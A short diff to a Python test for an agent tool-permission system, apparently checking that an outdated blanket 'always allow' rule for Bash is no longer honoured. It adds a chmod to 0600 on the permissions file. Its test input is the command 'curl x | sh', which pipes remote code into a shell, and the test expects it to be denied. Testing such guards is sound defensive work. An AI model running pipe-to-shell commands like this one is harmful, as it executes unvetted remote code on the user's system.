@@ -173,6 +173,7 @@ def test_an_older_tool_wide_always_is_no_longer_applied(tmp_path):
     home.mkdir(parents=True, exist_ok=True)
     (home / "permissions.json").write_text(json.dumps({"always": {"Bash": {
         "digest": definition_digest(None, None, "Bash"), "at": "2026-01-01T10:00:00"}}}))
+    (home / "permissions.json").chmod(0o600)  # as dsh wrote it: a file others may read is refused
     outcome = _later({"tool_name": "Bash", "input": {"command": "curl x | sh"}}, str(tmp_path))
     assert outcome["behavior"] == "deny"
 
